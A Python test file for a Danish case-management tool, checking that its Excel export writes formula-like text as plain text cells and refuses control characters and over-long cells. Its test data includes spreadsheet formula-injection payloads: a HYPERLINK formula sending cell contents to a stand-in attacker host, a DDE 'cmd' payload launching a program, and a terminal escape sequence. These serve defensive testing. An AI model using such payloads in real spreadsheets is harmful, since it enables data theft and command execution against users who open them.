"""Excel export never writes a formula: text that looks like one is a text cell and imports back unchanged."""

from __future__ import annotations

import json
import zipfile

import pytest
from openpyxl import load_workbook

from kasse.domain import Assessment, Contract, Danish, Family
from kasse.errors import KasseError
from kasse.interchange.csv_format import COLUMNS, TEXT_COLUMNS, document_rows, parse_sheet
from kasse.interchange.v1 import dump_document
from kasse.interchange.xlsx_format import read_xlsx, write_xlsx
from tests.cli_helpers import run_kasse
from tests.factories import d, person

# What a spreadsheet would run, link or evaluate if it took the text for a formula (or an error value).
FORMULAS = (
    '=HYPERLINK("http://angriber.example/?d="&A2,"Klik her")',
    "=1+1",
    "+45 12 34 56 78",
    "-2",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "'=allerede citeret",
    "#N/A",
)


def hostile_family(number: int, payload: str) -> Family:
    """A family whose every free-text field - refs included - begins with `payload` (a ref without its
    tab or carriage return: control characters in a ref are refused on import)."""
    ref_payload = payload.lstrip("\t\r")
    member = person(
        f"{ref_payload} P{number}",
        name=f"{payload} navn",
        nationality=f"{payload} land",
        left="2025-06-30",
        left_reason=f"{payload} grund",
        contract=Contract(signed_date=d("2025-01-20"), goal=f"{payload} mål"),
        danish=Danish(provider=f"{payload} skole"),
        assessment=Assessment(*(f"{payload} {part}" for part in ("udd", "arb", "sprog", "læse", "helbred"))),
    )
    return Family(ref=f"{ref_payload} F{number}", members=(member,), coordinating_department=f"{payload} afd")


def hostile_document() -> dict:
    return dump_document([hostile_family(number, payload) for number, payload in enumerate(FORMULAS)])


def text_cells(doc: dict) -> list[tuple[str, str, str]]:
    """(row's ref, column, text) for every free-text cell of the document's sheet rows."""
    return [(row["ref"], column, row[column]) for row in document_rows(doc) for column in sorted(TEXT_COLUMNS)]


def test_formula_text_comes_back_unchanged_field_by_field(tmp_path):
    doc, path = hostile_document(), tmp_path / "sagsstamme.xlsx"
    write_xlsx(doc, path)

    back = dump_document(parse_sheet(read_xlsx(path), {}, {}))

    written = text_cells(doc)
    assert len(written) == len(FORMULAS) * len(TEXT_COLUMNS)
    assert all(text.startswith(FORMULAS) for _, _, text in written)
    assert text_cells(back) == written


def test_the_workbook_holds_text_cells_and_no_formula(tmp_path):
    path = tmp_path / "sagsstamme.xlsx"
    write_xlsx(hostile_document(), path)

    sheet = load_workbook(path).worksheets[0]  # not read-only: cell types and styles are read too
    header = [cell.value for cell in sheet[1]]
    assert header == list(COLUMNS)
    name = header.index("name") + 1
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row), [cell.value for cell in row if cell.data_type == "f"]
        assert all(cell.data_type == "s" for cell in row if isinstance(cell.value, str))
        assert row[name - 1].value.startswith(FORMULAS)
    # A text Excel would read as a formula when edited keeps the quote prefix (shown as text, typed as text).
    names = [row[name - 1] for row in sheet.iter_rows(min_row=2)]
    prefixed = [cell for cell in names if cell.value.startswith(("=", "+", "-", "@"))]
    assert len(prefixed) == 6 and all(cell.quotePrefix for cell in prefixed)
    assert not any(cell.quotePrefix for cell in names if cell not in prefixed)
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_the_cli_round_trip_through_xlsx_keeps_the_formula_text(tmp_path):
    source, sheet, first, second = (tmp_path / name for name in ("in.json", "out.xlsx", "first.db", "second.db"))
    source.write_text(json.dumps(hostile_document(), ensure_ascii=False), encoding="utf-8")
    assert run_kasse("import", str(source), db=first).code == 0

    exported = run_kasse("export", str(sheet), db=first)
    assert exported.code == 0, exported.err
    imported = run_kasse("import", str(sheet), db=second)
    assert imported.code == 0, imported.err

    again = run_kasse("export", "-", db=second).json()
    assert text_cells(again) == text_cells(run_kasse("export", "-", db=first).json())


def test_a_control_character_excel_cannot_hold_stops_the_export_with_row_and_column(tmp_path):
    members = (person("P-1", name="Amina Hassan"), person("P-2", name="Ond\x1b]0;pwned\x07"))
    path = tmp_path / "sagsstamme.xlsx"

    with pytest.raises(KasseError) as refused:
        write_xlsx(dump_document([Family(ref="F-1", members=members)]), path)

    assert "række 3 (person P-2), kolonne name" in refused.value.message and "U+001B" in refused.value.message
    assert "\x1b" not in refused.value.message
    assert not path.exists()


def test_a_text_longer_than_an_excel_cell_stops_the_export_instead_of_being_cut(tmp_path):
    long_note = "x" * 32_768
    member = person("P-1", assessment=Assessment(health_summary=long_note))
    path = tmp_path / "sagsstamme.xlsx"

    with pytest.raises(KasseError, match="32767"):
        write_xlsx(dump_document([Family(ref="F-1", members=(member,))]), path)
    assert not path.exists()

    member = person("P-1", assessment=Assessment(health_summary=long_note[:-1]))
    write_xlsx(dump_document([Family(ref="F-1", members=(member,))]), path)
    [family] = parse_sheet(read_xlsx(path), {}, {})
    assert family.members[0].assessment.health_summary == long_note[:-1]


def test_the_cli_says_so_in_danish_and_writes_no_file(tmp_path):
    from tests.tui_support import write_caseload

    db = write_caseload(tmp_path / "kasse.db", [Family(ref="F-1", members=(person("P-1", name="Ond\x1b]0;pwned\x07"),))])
    target = tmp_path / "sagsstamme.xlsx"

    result = run_kasse("export", str(target), db=db)

    assert result.code != 0 and result.err.startswith("Fejl: række 2 (person P-1), kolonne name")
    assert "Traceback" not in result.err and "\x1b" not in result.err
    assert not target.exists()
